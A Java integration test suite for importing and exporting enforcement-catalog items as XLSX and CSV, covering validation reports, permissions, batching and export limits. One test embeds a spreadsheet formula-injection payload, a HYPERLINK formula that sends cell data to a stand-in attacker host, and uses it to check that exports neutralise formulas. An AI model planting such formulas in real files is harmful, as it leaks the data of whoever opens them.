package cn.gov.lyg.enforcement.catalog.spreadsheet;

import static cn.gov.lyg.enforcement.catalog.CatalogApi.admin;
import static cn.gov.lyg.enforcement.catalog.CatalogApi.officer;
import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.multipart;
import cn.gov.lyg.enforcement.platform.web.ExportSlots;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.test.web.servlet.MvcResult;
import org.springframework.test.web.servlet.request.MockHttpServletRequestBuilder;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.asyncDispatch;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.request;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.header;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import cn.gov.lyg.enforcement.catalog.CatalogApi;
import cn.gov.lyg.enforcement.catalog.item.EnforcementItem;
import cn.gov.lyg.enforcement.catalog.item.ItemFixtures;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import cn.gov.lyg.enforcement.platform.test.ServiceTest;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.data.mongodb.core.MongoTemplate;
import org.springframework.data.mongodb.core.query.Criteria;
import org.springframework.data.mongodb.core.query.Query;
import org.springframework.mock.web.MockMultipartFile;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.ResultActions;
import tools.jackson.databind.json.JsonMapper;

/** XLSX and CSV import with a row-by-row report (all or nothing unless validOnly), and export. */
@ServiceTest
class ItemSheetApiIT {

    @Autowired
    MockMvc mvc;
    @Autowired
    JsonMapper json;
    @Autowired
    MongoTemplate mongo;
    @Autowired
    ExportSlots exportSlots;
    CatalogApi api;

    @BeforeEach
    void setUp() {
        api = new CatalogApi(mvc, json);
    }

    private static List<String> row(String code, String name) {
        List<String> row = new ArrayList<>(ItemColumns.row(EnforcementItem.draft(ItemFixtures.foodLicencePenalty(),
                java.time.Clock.systemUTC())));
        row.set(0, code);
        row.set(2, name);
        return row;
    }

    private ResultActions upload(String token, String filename, byte[] content, String validOnly) throws Exception {
        var request = multipart("/api/catalog/v1/items/import").file(new MockMultipartFile("file", filename,
                "application/octet-stream", content));
        if (validOnly != null) {
            request.param("validOnly", validOnly);
        }
        return api.perform(request, token, null);
    }

    /** Runs a streamed export to its end (the body is written on the async thread). */
    private MockHttpServletResponse export(MockHttpServletRequestBuilder request, String token) throws Exception {
        MvcResult started = api.perform(request, token, null).andExpect(request().asyncStarted()).andReturn();
        return mvc.perform(asyncDispatch(started)).andExpect(status().isOk()).andReturn().getResponse();
    }

    private long count(String code) {
        return mongo.count(new Query(Criteria.where("definition.itemCode").is(code)), EnforcementItem.class);
    }

    @Test
    void aFileWithErrorsImportsNothingUnlessOnlyValidRowsAreAsked() throws Exception {
        String good = "3207-MKT-PEN-" + CatalogApi.nextSeq();
        String entrusted = "3207-MKT-COE-" + CatalogApi.nextSeq();
        List<String> coercion = row(entrusted, "查封、扣押不符合食品安全标准的食品");
        coercion.set(3, "COERCION");
        coercion.set(11, "ENTRUSTED");
        List<String> noName = row("3207-MKT-PEN-" + CatalogApi.nextSeq(), "");
        byte[] csv = Sheets.writeCsv(ItemColumns.header(), List.of(row(good, "对未取得食品经营许可从事食品经营活动的行政处罚（导入）"),
                coercion, noName, row(good, "重复编码")));

        upload(officer(), "items.csv", csv, null).andExpect(status().isForbidden());
        upload(null, "items.csv", csv, null).andExpect(status().isUnauthorized());
        upload(admin(), "items.csv", csv, null).andExpect(status().isBadRequest())
                .andExpect(jsonPath("$.code").value("IMPORT_INVALID_ROWS"))
                .andExpect(jsonPath("$.report.totalRows").value(4))
                .andExpect(jsonPath("$.report.validRows").value(1))
                .andExpect(jsonPath("$.report.imported").value(0))
                .andExpect(jsonPath("$.report.errors[?(@.row == 3)].code").value("COERCION_NOT_ENTRUSTABLE"))
                .andExpect(jsonPath("$.report.errors[?(@.row == 4)].code").value("FIELD_REQUIRED"))
                .andExpect(jsonPath("$.report.errors[?(@.row == 5)].code").value("ITEM_CODE_DUPLICATE"));
        assertThat(count(good)).isZero();

        upload(admin(), "items.csv", csv, "true").andExpect(status().isCreated())
                .andExpect(jsonPath("$.imported").value(1))
                .andExpect(jsonPath("$.invalidRows").value(3))
                .andExpect(jsonPath("$.importedItemIds.length()").value(1));
        assertThat(count(good)).isEqualTo(1);
        assertThat(count(entrusted)).isZero();
        // importing the same row again is a duplicate
        upload(admin(), "items.csv", Sheets.writeCsv(ItemColumns.header(), List.of(row(good, "x"))), null)
                .andExpect(status().isBadRequest())
                .andExpect(jsonPath("$.report.errors[0].code").value("ITEM_CODE_DUPLICATE"));
    }

    @Test
    void xlsxImportAndExportRoundTrip() throws Exception {
        String code = "3207-MKT-PEN-" + CatalogApi.nextSeq();
        String name = "导出测试事项" + code;
        byte[] xlsx = Sheets.writeXlsx("事项", ItemColumns.header(), List.of(row(code, name)));
        String id = api.read(upload(admin(), "items.xlsx", xlsx, null).andExpect(status().isCreated())
                .andExpect(jsonPath("$.imported").value(1))).at("/importedItemIds/0").asString();
        api.perform(get("/api/catalog/v1/items/{id}", id), admin(), null)
                .andExpect(jsonPath("$.status").value("DRAFT")).andExpect(jsonPath("$.name").value(name));

        MockHttpServletResponse response = export(get("/api/catalog/v1/items/export").param("q", code), admin());
        assertThat(response.getHeader("Content-Disposition")).contains("enforcement-items.xlsx");
        byte[] exported = response.getContentAsByteArray();
        List<List<String>> rows = Sheets.read(new ByteArrayInputStream(exported), Sheets.Format.XLSX);
        assertThat(rows).hasSize(2);
        assertThat(rows.get(0)).isEqualTo(ItemColumns.header());
        assertThat(rows.get(1).get(0)).isEqualTo(code);
        assertThat(rows.get(1).get(2)).isEqualTo(name);

        // drafts are not exported to others than catalog admins
        String csv = export(get("/api/catalog/v1/items/export").param("format", "csv").param("q", code), officer())
                .getContentAsString(StandardCharsets.UTF_8);
        assertThat(csv.lines().count()).isEqualTo(1);
        api.perform(get("/api/catalog/v1/items/export"), null, null).andExpect(status().isUnauthorized());
        api.perform(get("/api/catalog/v1/items/export").param("format", "pdf"), officer(), null)
                .andExpect(status().isBadRequest()).andExpect(jsonPath("$.code").value("INVALID_PARAMETER"));
    }

    @Test
    void exportReadsEveryMatchingItemInCodeOrderAcrossCursorBatches() throws Exception {
        // more than the driver's first batch (101) and than the old page size (200), imported in reverse order
        String marker = "批量导出" + CatalogApi.nextSeq();
        List<List<String>> rows = new ArrayList<>();
        for (int i = 0; i < 250; i++) {
            rows.add(row("3207-MKT-PEN-" + CatalogApi.nextSeq(), marker + "事项" + i));
        }
        List<String> codes = rows.stream().map(r -> r.get(0)).sorted().toList();
        java.util.Collections.reverse(rows);
        upload(admin(), "items.csv", Sheets.writeCsv(ItemColumns.header(), rows), null)
                .andExpect(status().isCreated()).andExpect(jsonPath("$.imported").value(250));

        byte[] exported = export(get("/api/catalog/v1/items/export").param("format", "csv").param("q", marker),
                admin()).getContentAsByteArray();
        List<List<String>> read = Sheets.read(new ByteArrayInputStream(exported), Sheets.Format.CSV);
        assertThat(read.get(0)).isEqualTo(ItemColumns.header());
        assertThat(read.subList(1, read.size()).stream().map(r -> r.get(0)).toList()).isEqualTo(codes);
    }

    @Test
    void malformedFilesAreRejected() throws Exception {
        upload(admin(), "items.xlsx", "PK not really".getBytes(StandardCharsets.UTF_8), null)
                .andExpect(status().isBadRequest()).andExpect(jsonPath("$.code").value("IMPORT_FILE_UNREADABLE"));
        upload(admin(), "items.pdf", new byte[] {1, 2, 3}, null)
                .andExpect(status().isBadRequest()).andExpect(jsonPath("$.code").value("IMPORT_FORMAT_UNSUPPORTED"));
        upload(admin(), "items.csv", "itemCode,colour\n3207-MKT-PEN-0001,red\n".getBytes(StandardCharsets.UTF_8),
                null).andExpect(status().isBadRequest()).andExpect(jsonPath("$.code").value("IMPORT_HEADER_INVALID"));
        upload(admin(), "items.csv", Sheets.writeCsv(ItemColumns.header(), List.of()), null)
                .andExpect(status().isBadRequest()).andExpect(jsonPath("$.code").value("IMPORT_EMPTY"));
        List<String> badType = row("3207-MKT-PEN-" + CatalogApi.nextSeq(), "x");
        badType.set(3, "FINE");
        upload(admin(), "items.csv", Sheets.writeCsv(ItemColumns.header(), List.of(badType)), null)
                .andExpect(status().isBadRequest())
                .andExpect(jsonPath("$.report.errors[0].field").value("itemType"))
                .andExpect(jsonPath("$.report.errors[0].code").value("INVALID_FIELD_VALUE"));
        api.perform(multipart("/api/catalog/v1/items/import"), admin(), null)
                .andExpect(status().isBadRequest());
    }

    @Test
    void exportedCellsNeverRunAsFormulasAndImportBackUnchanged() throws Exception {
        String code = "3207-MKT-PEN-" + CatalogApi.nextSeq();
        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")" + code;
        List<String> row = row(code, formula);
        row.set(9, "@SUM(1+1)");
        upload(admin(), "items.csv", Sheets.writeCsv(ItemColumns.header(), List.of(row)), null)
                .andExpect(status().isCreated());

        String csv = export(get("/api/catalog/v1/items/export").param("format", "csv").param("q", code), admin())
                .getContentAsString(StandardCharsets.UTF_8);
        assertThat(csv).contains(",'@SUM(1+1),").contains("\"'=HYPERLINK(");
        List<List<String>> rawCells = new ArrayList<>();
        try (var reader = new java.io.StringReader(csv.substring(1))) {
            var csvReader = new cn.gov.lyg.enforcement.platform.tabular.CsvReader(reader,
                    cn.gov.lyg.enforcement.platform.tabular.TableLimits.defaults());
            for (List<String> r = csvReader.next(); r != null; r = csvReader.next()) {
                rawCells.add(r);
            }
        }
        assertThat(rawCells).flatExtracting(r -> r).noneMatch(cell -> cell.startsWith("=") || cell.startsWith("@")
                || cell.startsWith("+") || cell.startsWith("-"));

        byte[] xlsx = export(get("/api/catalog/v1/items/export").param("q", code), admin()).getContentAsByteArray();
        try (var workbook = new org.apache.poi.xssf.usermodel.XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            var cell = workbook.getSheetAt(0).getRow(1).getCell(2);
            assertThat(cell.getCellType()).isEqualTo(org.apache.poi.ss.usermodel.CellType.STRING);
            assertThat(cell.getStringCellValue()).isEqualTo("'" + formula);
        }
        // what was exported reads back as the original text
        assertThat(Sheets.read(new ByteArrayInputStream(xlsx), Sheets.Format.XLSX).get(1).get(2)).isEqualTo(formula);
    }

    @Test
    void oneExportPerUserAtATime() throws Exception {
        String adminSubject = java.util.UUID.nameUUIDFromBytes("catalog-admin".getBytes()).toString();
        try (ExportSlots.Slot running = exportSlots.acquire(adminSubject)) {
            api.perform(get("/api/catalog/v1/items/export").param("format", "csv"), admin(), null)
                    .andExpect(status().isTooManyRequests())
                    .andExpect(jsonPath("$.code").value("EXPORT_IN_PROGRESS"))
                    .andExpect(jsonPath("$.retryAfterSeconds").value(10));
            // other users are not held up
            export(get("/api/catalog/v1/items/export").param("format", "csv").param("q", "无此事项"), officer());
        }
        export(get("/api/catalog/v1/items/export").param("format", "csv").param("q", "无此事项"), admin());
        // the slot is given back once the export has been written
        assertThat(exportSlots.busy(adminSubject)).isFalse();
    }
}
